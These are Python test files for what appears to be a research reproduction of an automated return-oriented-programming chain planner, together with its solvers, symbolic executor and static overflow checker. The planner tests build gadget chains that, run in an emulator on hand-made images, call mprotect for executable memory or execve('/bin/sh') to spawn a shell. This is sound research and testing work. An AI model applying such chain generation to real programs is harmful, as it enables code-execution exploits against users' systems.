    with_step = plan.add_provider_step(pool["g_pop_rax"], rax_cond, [], [])
    sid = max(with_step.steps)
    rdi_cond = next(c for c in with_step.open_conds if c.condition.reg == Reg.RDI)
    # g_pop_rax does not clobber rdi, but the API accepts any reuse;
    # here we just confirm the bookkeeping.
    reused = with_step.reuse_provider_step(sid, rdi_cond)
    assert reused is not None
    assert reused.is_complete
    assert len(reused.links) == 2


def test_clone_isolation(pool):
    plan = initial_plan(pool, [(Reg.RAX, 59)])
    clone = plan.clone()
    oc = clone.open_conds[0]
    grown = clone.add_provider_step(pool["g_pop_rax"], oc, [], [])
    assert plan.num_steps == 1
    assert grown.num_steps == 2
    assert len(plan.open_conds) == 1


def test_immediate_pre_goal_linearization(pool):
    plan = initial_plan(pool, [(Reg.RAX, 59), (Reg.RDI, 7)])
    rax_cond = next(c for c in plan.open_conds if c.condition.reg == Reg.RAX)
    p1 = plan.add_provider_step(pool["g_pop_rax"], rax_cond, [], [])
    rax_sid = max(p1.steps)
    rdi_cond = next(c for c in p1.open_conds if c.condition.reg == Reg.RDI)
    p2 = p1.add_provider_step(pool["g_pop_rdi"], rdi_cond, [], [])
    rdi_sid = max(p2.steps)
    p2.immediate_pre_goal = rdi_sid
    order = p2.linearize()
    assert order[-1] == GOAL_STEP
    assert order[-2] == rdi_sid
