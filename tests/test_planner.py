"""Tests for the partial-order planner on hand-crafted gadget images.

Every successful payload here is *executed in the emulator* and must
raise the goal syscall with the planned arguments — no paper-tiger
chains."""


from repro.binfmt import make_image
from repro.emulator import Sys
from repro.isa import assemble_unit
from repro.planner import (
    GadgetPlanner,
    PlannerConfig,
    execve_goal,
    mmap_goal,
    mprotect_goal,
    resolve_goal,
)


def image_for(source, data=b""):
    unit = assemble_unit(source, base_addr=0x400000)
    return make_image(unit.code, data=data, symbols=dict(unit.labels))


def plan_on(source, goals=None, data=b"", **planner_kwargs):
    image = image_for(source, data=data)
    planner = GadgetPlanner(
        image,
        planner=PlannerConfig(**planner_kwargs) if planner_kwargs else None,
    )
    return planner.run(goals=goals), image


RICH_GADGETS = """
    hlt                 ; padding so gadgets are not at the entry point
g_pop_rax:
    pop rax
    ret
g_pop_rdi:
    pop rdi
    ret
g_pop_rsi:
    pop rsi
    ret
g_pop_rdx:
    pop rdx
    ret
g_write:
    mov [rdi+0], rsi
    ret
g_syscall:
    syscall
    ret
"""


def test_mprotect_chain_found_and_validated():
    report, image = plan_on(RICH_GADGETS, goals=[mprotect_goal(addr=0x600000)])
    assert report.per_goal["mprotect"] >= 1
    payload = report.payloads[0]
    assert payload.validated
    assert payload.event.number == Sys.MPROTECT
    assert payload.event.addr == 0x600000
    assert payload.event.prot == 7


def test_mmap_chain():
    report, _ = plan_on(RICH_GADGETS, goals=[mmap_goal()])
    assert report.per_goal["mmap"] >= 1
    assert all(p.validated for p in report.payloads)


def test_execve_chain_plants_bin_sh():
    """No "/bin/sh" in the binary: the planner must write it to scratch
    with the write-what-where gadget, then call execve."""
    report, image = plan_on(RICH_GADGETS, goals=[execve_goal()])
    assert report.per_goal["execve"] >= 1
    payload = report.payloads[0]
    assert payload.validated
    assert payload.event.is_shell_spawn()
    # The chain must include the memory-write gadget.
    assert any(g.has_side_memory_writes for g in payload.chain)


def test_execve_uses_existing_string_when_present():
    data = b"/bin/sh\x00"
    report, image = plan_on(RICH_GADGETS, goals=[execve_goal()], data=data)
    assert report.per_goal["execve"] >= 1
    payload = report.payloads[0]
    assert payload.validated
    # No write gadget needed: the string already lives in .data.
    assert not any(g.has_side_memory_writes for g in payload.chain)


def test_no_syscall_gadget_no_payloads():
    report, _ = plan_on("pop rax\nret\npop rdi\nret")
    assert report.total_payloads == 0


def test_missing_register_setter_blocks_goal():
    # No way to set rdx → mprotect (needs rdx=7) must fail...
    source = """
        hlt
    g1:
        pop rax
        ret
    g2:
        pop rdi
        ret
    g3:
        pop rsi
        ret
    g4:
        syscall
        ret
    """
    report, _ = plan_on(source, goals=[mprotect_goal(addr=0x600000)])
    assert report.per_goal["mprotect"] == 0


def test_value_through_register_move():
    """rdx can only be set via rax: pop rax; ret + mov rdx, rax; ret —
    the regression machinery must chain them (the paper's Fig. 6 point:
    a missing pop rdx; ret is not fatal)."""
    source = """
        hlt
    g1:
        pop rax
        ret
    g2:
        mov rdx, rax
        ret
    g3:
        pop rdi
        ret
    g4:
        pop rsi
        ret
    g5:
        syscall
        ret
    """
    report, _ = plan_on(source, goals=[mprotect_goal(addr=0x600000)])
    assert report.per_goal["mprotect"] >= 1
    payload = report.payloads[0]
    assert payload.validated
    mnemonic_chains = ["/".join(i.info.mnemonic for i in g.insns) for g in payload.chain]
    assert any("mov" in c for c in mnemonic_chains)


def test_arithmetic_register_derivation():
    """rax must be derived: pop rbx; ret + mov rax, rbx; add rax, 1; ret."""
    source = """
        hlt
    g1:
        pop rbx
        ret
    g2:
        mov rax, rbx
        add rax, 1
        ret
    g3:
        pop rdi
        ret
    g4:
        pop rsi
        ret
    g5:
        pop rdx
        ret
    g6:
        syscall
        ret
    """
    report, _ = plan_on(source, goals=[mprotect_goal(addr=0x600000)])
    assert report.per_goal["mprotect"] >= 1
    assert report.payloads[0].validated


def test_conditional_gadget_in_chain():
    """The pop rdx path is guarded by a conditional jump that requires
    rcx == 0 — the planner must discharge the precondition (Fig. 4)."""
    source = """
        hlt
    g1:
        pop rax
        ret
    g2:
        pop rdi
        ret
    g3:
        pop rsi
        ret
    g_pop_rcx:
        pop rcx
        ret
    g_cond:
        pop rdx
        cmp rcx, 0
        jne bad
        ret
    bad:
        hlt
    g6:
        syscall
        ret
    """
    report, _ = plan_on(source, goals=[mprotect_goal(addr=0x600000)], max_nodes=8000)
    assert report.per_goal["mprotect"] >= 1
    payload = report.payloads[0]
    assert payload.validated
    assert any(g.conditional_jumps > 0 for g in payload.chain)


def test_jmp_reg_gadget_with_controlled_target():
    """A gadget ending `jmp rbx` where rbx was just popped in-gadget:
    the planner must bind the popped word to the next gadget address."""
    source = """
        hlt
    g1:
        pop rdi
        pop rbx
        jmp rbx
    g2:
        pop rax
        ret
    g3:
        pop rsi
        ret
    g4:
        pop rdx
        ret
    g5:
        syscall
        ret
    """
    report, _ = plan_on(source, goals=[mprotect_goal(addr=0x600000)], max_nodes=8000)
    assert report.per_goal["mprotect"] >= 1
    # At least one validated payload; ideally one through the jmp gadget.
    assert any(p.validated for p in report.payloads)


def test_multiple_plans_emitted():
    """Gadget-Planner "keeps searching for more diverse gadget chains":
    with two distinct rdi setters, expect >1 mprotect payload."""
    # A semantically distinct second rdi setter (different clobbers &
    # stack shape) — identical variants are merged by subsumption.
    source = RICH_GADGETS + """
g_pop_rdi_2:
    pop rdi
    pop rcx
    ret
"""
    report, _ = plan_on(source, goals=[mprotect_goal(addr=0x600000)], max_plans=8)
    assert report.per_goal["mprotect"] >= 2


def test_payload_words_contain_goal_values():
    report, _ = plan_on(RICH_GADGETS, goals=[mprotect_goal(addr=0x600000)])
    payload = report.payloads[0]
    assert 0x600000 in payload.words
    assert 10 in payload.words  # SYS_mprotect
    assert 7 in payload.words


def test_report_timings_populated():
    report, _ = plan_on(RICH_GADGETS, goals=[mmap_goal()])
    t = report.timings
    assert t.extraction > 0
    assert t.subsumption > 0
    assert t.planning >= 0
    assert t.total > 0


def test_subsumption_reduces_pool():
    report, _ = plan_on(RICH_GADGETS)
    assert report.gadgets_after_subsumption < report.gadgets_total


def test_resolve_goal_pointer_modes():
    image = image_for(RICH_GADGETS, data=b"/bin/sh\x00")
    resolved = resolve_goal(image, execve_goal())
    assert not resolved.memory_goals  # found in image
    image2 = image_for(RICH_GADGETS)
    resolved2 = resolve_goal(image2, execve_goal())
    assert resolved2.memory_goals
    assert resolved2.memory_goals[0].data == b"/bin/sh\x00"
    words = resolved2.memory_goals[0].words()
    assert words[0][1] == int.from_bytes(b"/bin/sh\x00", "little")


def test_describe_chain_renders():
    report, _ = plan_on(RICH_GADGETS, goals=[mmap_goal()])
    text = report.payloads[0].describe()
    assert "payload[mmap]" in text
    assert "goal:" in text
