"""Tests for the CDCL SAT core."""

import itertools

import pytest
from hypothesis import given, settings, strategies as st

from repro.solver.sat import SATBudgetExceeded, SATSolver, solve_clauses


def brute_force_sat(clauses, num_vars):
    for bits in itertools.product([False, True], repeat=num_vars):
        assignment = {i + 1: bits[i] for i in range(num_vars)}
        ok = True
        for clause in clauses:
            if not any(assignment[abs(lit)] == (lit > 0) for lit in clause):
                ok = False
                break
        if ok:
            return True
    return False


def test_empty_problem_is_sat():
    assert solve_clauses([]).satisfiable


def test_single_unit():
    result = solve_clauses([[1]])
    assert result.satisfiable
    assert result.model[1] is True


def test_contradictory_units():
    assert not solve_clauses([[1], [-1]]).satisfiable


def test_simple_implication_chain():
    # 1 and (1->2) and (2->3) and (3 -> not 1) is unsat
    clauses = [[1], [-1, 2], [-2, 3], [-3, -1]]
    assert not solve_clauses(clauses).satisfiable


def test_model_satisfies_clauses():
    clauses = [[1, 2], [-1, 3], [-2, -3], [2, 3]]
    result = solve_clauses(clauses)
    assert result.satisfiable
    for clause in clauses:
        assert any(result.model[abs(lit)] == (lit > 0) for lit in clause)


def test_pigeonhole_3_into_2_unsat():
    # Variables p[i][j]: pigeon i in hole j (i in 0..2, j in 0..1).
    def var(i, j):
        return i * 2 + j + 1

    clauses = []
    for i in range(3):
        clauses.append([var(i, 0), var(i, 1)])
    for j in range(2):
        for i1 in range(3):
            for i2 in range(i1 + 1, 3):
                clauses.append([-var(i1, j), -var(i2, j)])
    assert not solve_clauses(clauses).satisfiable


def test_tautology_removed():
    solver = SATSolver()
    solver.add_clause([1, -1])
    assert solver.solve().satisfiable


def test_duplicate_literals_in_clause():
    assert solve_clauses([[1, 1, 1]]).satisfiable


def test_empty_clause_unsat():
    solver = SATSolver()
    solver.add_clause([])
    assert not solver.solve().satisfiable


def test_zero_literal_rejected():
    solver = SATSolver()
    with pytest.raises(ValueError):
        solver.add_clause([0])


def test_budget_exceeded_raises():
    # A hard pigeonhole instance (5 into 4) with a tiny budget.
    def var(i, j):
        return i * 4 + j + 1

    solver = SATSolver()
    for i in range(5):
        solver.add_clause([var(i, j) for j in range(4)])
    for j in range(4):
        for i1 in range(5):
            for i2 in range(i1 + 1, 5):
                solver.add_clause([-var(i1, j), -var(i2, j)])
    with pytest.raises(SATBudgetExceeded):
        solver.solve(max_conflicts=3)


@st.composite
def random_cnf(draw):
    num_vars = draw(st.integers(min_value=1, max_value=8))
    num_clauses = draw(st.integers(min_value=1, max_value=20))
    clauses = []
    for _ in range(num_clauses):
        size = draw(st.integers(min_value=1, max_value=4))
        clause = [
            draw(st.integers(min_value=1, max_value=num_vars))
            * (1 if draw(st.booleans()) else -1)
            for _ in range(size)
        ]
        clauses.append(clause)
    return num_vars, clauses


@settings(deadline=None, max_examples=150)
@given(problem=random_cnf())
def test_property_matches_brute_force(problem):
    num_vars, clauses = problem
    expected = brute_force_sat(clauses, num_vars)
    result = solve_clauses(clauses)
    assert result.satisfiable == expected
    if result.satisfiable:
        for clause in clauses:
            assert any(result.model[abs(lit)] == (lit > 0) for lit in clause)
