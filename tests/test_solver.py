"""Tests for the BV solver frontend: fast paths, bit-blasting, models."""

from hypothesis import given, settings, strategies as st

from repro.solver import Solver, Status
from repro.symex.expr import (
    MASK64,
    CmpOp,
    bool_or,
    bv_add,
    bv_and,
    bv_const,
    bv_eq,
    bv_ite,
    bv_mul,
    bv_ne,
    bv_not,
    bv_shl,
    bv_sub,
    bv_sym,
    bv_udiv,
    bv_umod,
    bv_xor,
    cmp,
    eval_bool,
)

S = Solver()
X = bv_sym("x")
Y = bv_sym("y")
Z = bv_sym("z")


def test_trivial_sat():
    assert S.check([]).is_sat


def test_binding_fast_path():
    result = S.check([bv_eq(X, bv_const(59)), bv_eq(Y, bv_const(0))])
    assert result.is_sat
    assert result.model["x"] == 59
    assert result.model["y"] == 0


def test_conflicting_bindings_unsat():
    assert S.check([bv_eq(X, bv_const(1)), bv_eq(X, bv_const(2))]).is_unsat


def test_propagation_through_expressions():
    # x == 5 and x + y == 9 → y == 4
    result = S.check([bv_eq(X, bv_const(5)), bv_eq(bv_add(X, Y), bv_const(9))])
    assert result.is_sat
    assert (result.model["x"] + result.model["y"]) & MASK64 == 9


def test_sat_needs_bitblasting():
    # x ^ y == 0xff and x & y == 0 → e.g. x=0xff, y=0
    result = S.check([bv_eq(bv_xor(X, Y), bv_const(0xFF)), bv_eq(bv_and(X, Y), bv_const(0))])
    assert result.is_sat
    m = result.model
    assert m["x"] ^ m["y"] == 0xFF
    assert m["x"] & m["y"] == 0


def test_unsat_arithmetic():
    # x + 1 == x is unsatisfiable in BV arithmetic
    assert S.check([bv_eq(bv_add(X, bv_const(1)), X)]).is_unsat


def test_overflow_wraps_makes_sat():
    # x + 1 == 0 has the solution x == 2^64-1
    result = S.check([bv_eq(bv_add(X, bv_const(1)), bv_const(0))])
    assert result.is_sat
    assert result.model["x"] == MASK64


def test_unsigned_vs_signed_bounds():
    big = bv_const(1 << 63)
    result = S.check([cmp(CmpOp.SLT, X, bv_const(0)), cmp(CmpOp.ULT, X, bv_add(big, bv_const(1)))])
    assert result.is_sat
    assert result.model["x"] == 1 << 63


def test_prove_valid_identity():
    # x ^ y == (~x & y) | (x & ~y) — the paper's instruction-substitution identity
    from repro.symex.expr import bv_or

    lhs = bv_xor(X, Y)
    identity = bv_or(bv_and(bv_not(X), Y), bv_and(X, bv_not(Y)))
    assert S.prove(bv_eq(lhs, identity))


def test_prove_invalid_rejected():
    assert not S.prove(bv_eq(bv_add(X, Y), bv_sub(X, Y)))


def test_equivalent_api():
    assert S.equivalent(bv_add(X, X), bv_mul(X, bv_const(2)))
    assert S.equivalent(bv_shl(X, 1), bv_mul(X, bv_const(2)))
    assert not S.equivalent(X, Y)


def test_equivalent_under_assumptions():
    # x == y is not valid, but it is under the assumption x == y.
    assert S.equivalent(X, Y, assuming=[bv_eq(X, Y)])


def test_opaque_predicate_always_true():
    """x*(x+1) % 2 == 0 — the canonical opaque predicate is valid."""
    expr = bv_umod(bv_mul(X, bv_add(X, bv_const(1))), bv_const(2))
    assert S.prove(bv_eq(expr, bv_const(0)))


def test_opaque_predicate_7x2_neq_y2_plus_1():
    """7x² != y²+1 stays valid mod 2⁶⁴ (squares mod 8 rule it out) —
    the solver must prove this quadratic opaque predicate UNSAT."""
    seven_x2 = bv_mul(bv_const(7), bv_mul(X, X))
    y2_plus_1 = bv_add(bv_mul(Y, Y), bv_const(1))
    assert S.check([bv_eq(seven_x2, y2_plus_1)]).is_unsat


def test_ite_constraint():
    e = bv_ite(bv_eq(X, bv_const(0)), bv_const(10), bv_const(20))
    result = S.check([bv_eq(e, bv_const(20))])
    assert result.is_sat
    assert result.model["x"] != 0


def test_division_constraint():
    result = S.check([bv_eq(bv_udiv(X, Y), bv_const(3)), bv_eq(Y, bv_const(5))])
    assert result.is_sat
    assert result.model["x"] // 5 == 3


def test_div_by_zero_semantics():
    # x / 0 == 0 in our semantics: so x/0 == 1 is unsat.
    zero = bv_const(0)
    assert S.check([bv_eq(bv_udiv(X, zero), bv_const(1))]).is_unsat
    # x % 0 == x: always true.
    assert S.prove(bv_eq(bv_umod(X, zero), X))


def test_disjunction():
    result = S.check([bool_or(bv_eq(X, bv_const(1)), bv_eq(X, bv_const(2))), bv_ne(X, bv_const(1))])
    assert result.is_sat
    assert result.model["x"] == 2


def test_unknown_on_tiny_budget():
    tiny = Solver(max_conflicts=1, sample_attempts=0)
    # A constraint that needs real search: multiplication inversion.
    result = tiny.check([bv_eq(bv_mul(X, X), bv_const(0x123456789))])
    assert result.status in (Status.UNKNOWN, Status.UNSAT)


U64 = st.integers(min_value=0, max_value=MASK64)


@settings(deadline=None, max_examples=30)
@given(a=U64, b=st.integers(min_value=0, max_value=1 << 16))
def test_property_linear_equations_solved(a, b):
    """x + a == b always has the unique model x = b - a."""
    result = S.check([bv_eq(bv_add(X, bv_const(a)), bv_const(b))])
    assert result.is_sat
    assert (result.model["x"] + a) & MASK64 == b


@settings(deadline=None, max_examples=20)
@given(a=U64)
def test_property_model_satisfies_constraints(a):
    constraints = [
        bv_eq(bv_xor(X, bv_const(a)), Y),
        cmp(CmpOp.ULE, Z, bv_const(100)),
        bv_eq(bv_and(Z, bv_const(1)), bv_const(1)),
    ]
    result = S.check(constraints)
    assert result.is_sat
    env = dict(result.model)
    for c in constraints:
        assert eval_bool(c, env)
