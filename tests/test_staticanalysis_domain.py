"""Unit tests for the static-analysis abstract domains.

Three layers: the flat constant/init-register domain and intervals
(``domain.py``), window dataflow over assembled machine code
(``window.py``), and taint propagation over mini-C IR (``taint.py``).
"""


from repro.isa import Reg, assemble
from repro.lang import parse
from repro.compiler.lowering import lower_program
from repro.staticanalysis import (
    BOT,
    Const,
    DecodeGraph,
    InitReg,
    Interval,
    ModuleChecker,
    TOP,
    Tribool,
    WindowAnalyzer,
)
from repro.staticanalysis.domain import (
    INF,
    abs_add,
    abs_binop,
    abs_shift,
    abs_sub,
    join,
)
from repro.symex.executor import EndKind


# ---------------------------------------------------------------------------
# Flat domain
# ---------------------------------------------------------------------------


def test_join_lattice_laws():
    a, b = Const(1), Const(2)
    assert join(a, a) == a
    assert join(a, b) is TOP
    assert join(BOT, a) == a
    assert join(a, BOT) == a
    assert join(TOP, a) is TOP
    assert join(BOT, BOT) is BOT


def test_abs_add_sub_init_reg_offsets():
    rsp = InitReg(int(Reg.RSP))
    assert abs_add(rsp, Const(8)) == InitReg(int(Reg.RSP), 8)
    assert abs_sub(InitReg(int(Reg.RSP), 8), Const(8)) == rsp
    assert abs_add(Const(3), Const(4)) == Const(7)
    # x - x folds to zero only for *known-equal* values, never for TOP.
    assert abs_sub(rsp, rsp) == Const(0)
    assert abs_sub(TOP, TOP) is TOP


def test_abs_binop_mirrors_expr_folds():
    rax = InitReg(int(Reg.RAX))
    assert abs_binop("xor", rax, rax) == Const(0)
    assert abs_binop("xor", TOP, TOP) is TOP  # singleton equality is not a fold
    assert abs_binop("and", rax, rax) == rax
    assert abs_binop("or", Const(0xF0), Const(0x0F)) == Const(0xFF)
    assert abs_binop("udiv", Const(5), Const(0)) is TOP
    assert abs_shift("shl", Const(1), 4) == Const(16)
    assert abs_shift("shl", rax, 0) == rax


def test_const_masking_wraps_to_64_bits():
    assert Const(1 << 64) == Const(0)
    assert abs_add(Const((1 << 64) - 1), Const(1)) == Const(0)


# ---------------------------------------------------------------------------
# Tribool
# ---------------------------------------------------------------------------


def test_tribool_kleene_laws():
    t, f, u = Tribool.TRUE, Tribool.FALSE, Tribool.UNKNOWN
    assert (t & u) is u and (f & u) is f
    assert (t | u) is t and (f | u) is u
    assert (~u) is u and (~t) is f
    assert (t ^ f) is t and (t ^ u) is u
    assert t.definite and f.definite and not u.definite
    assert Tribool.of(1 < 2) is t


# ---------------------------------------------------------------------------
# Intervals
# ---------------------------------------------------------------------------


def test_interval_join_and_widen():
    a, b = Interval(0, 3), Interval(2, 9)
    assert a.join(b) == Interval(0, 9)
    # Widening jumps a growing bound straight to its extreme.
    assert a.widen(b) == Interval(0, INF)
    assert b.widen(a) == Interval(0, 9)
    assert Interval.const(5).join(Interval.const(5)) == Interval(5, 5)


def test_interval_arithmetic_and_clamps():
    a = Interval(1, 4)
    assert a.add(Interval(2, 3)) == Interval(3, 7)
    assert a.sub_const(1) == Interval(0, 3)
    assert a.scale(8) == Interval(8, 32)
    assert Interval(0, INF).clamp_below(8) == Interval(0, 7)
    assert Interval(0, INF).clamp_below_eq(8) == Interval(0, 8)
    assert Interval(0, 9).clamp_above_eq(4) == Interval(4, 9)
    assert str(Interval(0, INF)) == "[0, inf]"
    assert not Interval(0, INF).is_bounded and Interval(0, 9).is_bounded


# ---------------------------------------------------------------------------
# Window dataflow over machine code
# ---------------------------------------------------------------------------


def _summarize(asm: str, *, max_insns: int = 16):
    code = assemble(asm, base_addr=0x400000)
    graph = DecodeGraph(code, 0x400000)
    return WindowAnalyzer(graph, max_insns=max_insns).summarize(0x400000)


def test_stack_delta_plain_ret():
    s = _summarize("ret")
    assert s.reaches_transfer and s.ends == frozenset({EndKind.RET})
    assert s.known_stack_delta == 8
    assert s.min_insns == 1 and not s.conditional


def test_stack_delta_through_push_pop_and_add_rsp():
    s = _summarize("push rax\npop rbx\nadd rsp, 24\nret")
    # -8 (push) +8 (pop) +24 (add) +8 (ret)
    assert s.known_stack_delta == 32
    assert Reg.RBX in s.clobbered
    assert -8 in s.stack_write_offsets


def test_stack_delta_unknown_after_pop_rsp():
    s = _summarize("pop rsp\nret")
    assert s.stack_delta is TOP and s.known_stack_delta is None


def test_resolved_branch_does_not_fork():
    # cmp rax, rax folds: je is statically taken, mirroring the symbolic
    # executor, so only the taken side is explored.
    s = _summarize(
        """
        cmp rax, rax
        je out
        hlt
        out: ret
        """
    )
    assert s.reaches_transfer and not s.conditional
    assert s.ends == frozenset({EndKind.RET})


def test_unknown_branch_forks_both_sides():
    s = _summarize(
        """
        cmp rax, rbx
        je out
        jmp rcx
        out: ret
        """
    )
    assert s.conditional
    assert s.ends == frozenset({EndKind.RET, EndKind.JMP_REG})


def test_unreachable_window_is_culled():
    code = assemble("mov rax, 1\nhlt", base_addr=0x400000)
    graph = DecodeGraph(code, 0x400000)
    analyzer = WindowAnalyzer(graph, max_insns=8)
    assert not analyzer.reaches_transfer(0x400000)
    assert not analyzer.summarize(0x400000).usable


def test_budget_bounds_reachability():
    body = "\n".join("mov rax, 1" for _ in range(6)) + "\nret"
    code = assemble(body, base_addr=0x400000)
    graph = DecodeGraph(code, 0x400000)
    assert WindowAnalyzer(graph, max_insns=7).reaches_transfer(0x400000)
    assert not WindowAnalyzer(graph, max_insns=6).reaches_transfer(0x400000)


# ---------------------------------------------------------------------------
# Taint over mini-C IR
# ---------------------------------------------------------------------------


def _check(source: str):
    return ModuleChecker(lower_program(parse(source))).check()


def test_taint_propagates_through_copies():
    findings = _check(
        """
        u8 optarg[64];
        u64 main() {
            u8 buf[4];
            u64 x = optarg[0];
            u64 y = x;
            u64 z = y + 1;
            buf[z] = 1;
            return 0;
        }
        """
    )
    assert len(findings) == 1
    f = findings[0]
    assert f.buffer.startswith("buf") and f.buffer_size == 4
    assert "optarg" in f.sources


def test_untainted_unbounded_write_not_flagged():
    # The checker targets *attacker-controlled* overflows: an unbounded
    # write of untainted data is out of scope (and would drown netperf
    # in noise from its protocol scaffolding).
    findings = _check(
        """
        u64 n = 0;
        u64 main() {
            u8 buf[4];
            for (u64 i = 0; i < n; i++) { buf[i] = 0; }
            return 0;
        }
        """
    )
    assert findings == []


def test_bounds_check_suppresses_finding():
    findings = _check(
        """
        u8 optarg[256];
        u64 optarg_len = 0;
        u64 main() {
            u8 buf[8];
            for (u64 i = 0; i < optarg_len; i++) {
                if (i < 8) { buf[i] = optarg[i]; }
            }
            return 0;
        }
        """
    )
    assert findings == []


def test_unchecked_copy_is_flagged():
    findings = _check(
        """
        u8 optarg[256];
        u64 optarg_len = 0;
        u64 main() {
            u8 buf[8];
            for (u64 i = 0; i < optarg_len; i++) { buf[i] = optarg[i]; }
            return 0;
        }
        """
    )
    assert len(findings) == 1 and findings[0].buffer_size == 8


def test_interprocedural_write_through_param():
    findings = _check(
        """
        u8 optarg[256];
        u64 optarg_len = 0;
        u64 fill(u8* dst, u64 n) {
            for (u64 i = 0; i < n; i++) { dst[i] = optarg[i]; }
            return n;
        }
        u64 main() {
            u8 small[16];
            fill(small, optarg_len);
            return 0;
        }
        """
    )
    assert len(findings) == 1
    f = findings[0]
    assert f.callee == "fill" and f.function == "main"
    assert f.buffer.startswith("small")


def test_custom_sources():
    source = """
    u8 network_in[64];
    u64 main() {
        u8 buf[4];
        u64 i = network_in[0];
        buf[i] = 1;
        return 0;
    }
    """
    module = lower_program(parse(source))
    assert ModuleChecker(module).check() == []
    flagged = ModuleChecker(module, sources=("network_",)).check()
    assert len(flagged) == 1


def test_netperf_break_args_found_without_hints():
    from repro.bench.netperf import locate_overflow

    findings = locate_overflow()
    assert len(findings) == 2
    assert all(f.callee == "break_args" for f in findings)
    assert all(f.buffer_size == 16 for f in findings)
    assert all("optarg" in f.sources for f in findings)
    buffers = {f.buffer.split(".")[0] for f in findings}
    assert buffers == {"arg1", "arg2"}
