"""Differential soundness of the semantic gadget prefilter.

The prefilter's contract: culling a candidate never changes the gadget
pool, because a culled window provably yields zero usable symbolic
paths.  This test runs extraction twice — prefilter on and off — over
every benchmark program under representative obfuscation configs and
requires the two record sets to be identical, field for field.
"""

import pytest

from repro.bench import BENCHMARK_SUITE, build
from repro.gadgets import ExtractionConfig, ExtractionStats, extract_gadgets

#: Small budgets keep the 12 x 3 matrix fast while still exercising
#: forks, merged direct jumps, and the candidate cap's sampling.
_BASE = dict(max_insns=6, max_paths=2, max_candidates=250)

CONFIG_NAMES = ("none", "flattening", "virtualization")


def _record_key(record):
    return (
        record.gadget_id,
        record.location,
        record.length,
        record.jmp_type,
        record.end,
        str(record.jump_target),
        tuple(str(c) for c in record.pre_cond),
        tuple(sorted((str(k), str(v)) for k, v in record.post_regs.items())),
        record.stack_delta,
        record.stack_smashed,
        tuple(sorted(record.clob_regs, key=int)),
        tuple(sorted(record.ctrl_regs, key=int)),
    )


@pytest.mark.parametrize("config_name", CONFIG_NAMES)
@pytest.mark.parametrize("program", sorted(BENCHMARK_SUITE))
def test_prefilter_preserves_gadget_pool(program, config_name):
    image = build(program, config_name).image
    with_stats = ExtractionStats()
    without_stats = ExtractionStats()
    with_filter = extract_gadgets(
        image, ExtractionConfig(semantic_prefilter=True, **_BASE), with_stats
    )
    without_filter = extract_gadgets(
        image, ExtractionConfig(semantic_prefilter=False, **_BASE), without_stats
    )
    assert [_record_key(r) for r in with_filter] == [
        _record_key(r) for r in without_filter
    ]
    # Same candidates considered either way; culling only skips symex.
    assert with_stats.candidates == without_stats.candidates
    assert without_stats.semantically_culled == 0
    assert (
        with_stats.symex_invocations
        == with_stats.candidates - with_stats.semantically_culled
    )
