"""Tests for the symbolic executor: path endings, conditional forking,
direct-jump merging, memory modelling — plus a differential property
test pitting the symbolic semantics against the concrete emulator."""

import random

from hypothesis import given, settings, strategies as st

from repro.binfmt import make_image
from repro.emulator import Emulator
from repro.isa import Instruction, Op, Reg, assemble_unit, encode_program
from repro.symex import (
    EndKind,
    bv_add,
    bv_const,
    eval_bv,
    execute_paths,
    reg_sym,
    stack_sym,
)
from repro.symex.expr import BVConst, free_symbols
from repro.symex.state import is_controlled_symbol


def paths_for(source, start_label=None, **kwargs):
    unit = assemble_unit(source, base_addr=0x400000)
    start = unit.labels[start_label] if start_label else 0x400000
    return execute_paths(unit.code, 0x400000, start, **kwargs)


def test_pop_ret_semantics():
    (path,) = paths_for("pop rax\nret")
    assert path.end is EndKind.RET
    assert path.state.get(Reg.RAX) == stack_sym(0)
    assert path.jump_target == stack_sym(8)
    # rsp advanced by 16: one pop, one ret
    assert path.state.get(Reg.RSP) == bv_add(reg_sym(Reg.RSP), bv_const(16))


def test_mov_const_then_jmp_reg():
    (path,) = paths_for("mov rax, 59\nmov rbx, target\njmp rbx\ntarget: ret")
    assert path.end is EndKind.JMP_REG
    assert path.state.get(Reg.RAX) == bv_const(59)
    assert isinstance(path.jump_target, BVConst)


def test_jmp_mem_target_is_wild_load():
    (path,) = paths_for("jmp [rax+8]")
    assert path.end is EndKind.JMP_MEM
    # Target came from uncontrolled memory → a wild symbol.
    syms = free_symbols(path.jump_target)
    assert any(s.startswith("mem") for s in syms)


def test_call_reg_pushes_return_address():
    (path,) = paths_for("call rax")
    assert path.end is EndKind.CALL_REG
    assert path.jump_target == reg_sym(Reg.RAX)
    writes = path.state.stack_writes()
    assert -8 in writes  # return address stored below initial rsp
    assert isinstance(writes[-8], BVConst)


def test_syscall_terminates_path():
    (path,) = paths_for("mov rax, 59\nsyscall")
    assert path.end is EndKind.SYSCALL
    assert path.state.get(Reg.RAX) == bv_const(59)


def test_direct_jump_merging():
    """The paper: gadgets ending in a direct jmp merge with the target."""
    (path,) = paths_for(
        """
        entry:
            pop rdi
            jmp tail
            nop
        tail:
            pop rsi
            ret
        """,
        start_label="entry",
    )
    assert path.end is EndKind.RET
    assert path.merged_direct_jumps == 1
    assert path.state.get(Reg.RDI) == stack_sym(0)
    assert path.state.get(Reg.RSI) == stack_sym(8)
    assert path.jump_target == stack_sym(16)


def test_conditional_jump_forks_two_paths():
    """Fig. 4(b): a conditional jump in the middle produces a
    fall-through path constrained by rdx == rbx and a taken path
    constrained by rdx != rbx."""
    paths = paths_for(
        """
        entry:
            pop rax
            cmp rdx, rbx
            jne out
            pop rbx
            ret
        out:
            ret
        """,
        start_label="entry",
    )
    assert len(paths) == 2
    by_constraints = {str(p.state.constraints[0]): p for p in paths if p.state.constraints}
    assert len(by_constraints) == 2
    keys = set(by_constraints)
    assert any("==" in k for k in keys)
    assert any("!=" in k for k in keys)
    fallthrough = by_constraints[[k for k in keys if "==" in k][0]]
    assert fallthrough.state.get(Reg.RBX) == stack_sym(8)


def test_statically_resolved_condition_no_fork():
    """xor rax, rax ; jz → condition folds to a constant, no fork."""
    paths = paths_for(
        """
        entry:
            xor rax, rax
            test rax, rax
            je taken
            ret
        taken:
            pop rbx
            ret
        """,
        start_label="entry",
    )
    assert len(paths) == 1
    assert paths[0].state.get(Reg.RBX) == stack_sym(0)


def test_conditional_taken_path_via_cmp_immediate():
    """Fig. 4(c): first half ends with a Jcc that must be taken."""
    paths = paths_for(
        """
        entry:
            pop rcx
            cmp rcx, 0
            je second
            hlt
        second:
            pop rdx
            ret
        """,
        start_label="entry",
    )
    usable = [p for p in paths if p.is_usable]
    assert len(usable) == 1
    (p,) = usable
    assert p.end is EndKind.RET
    # Precondition: the popped value must be zero.
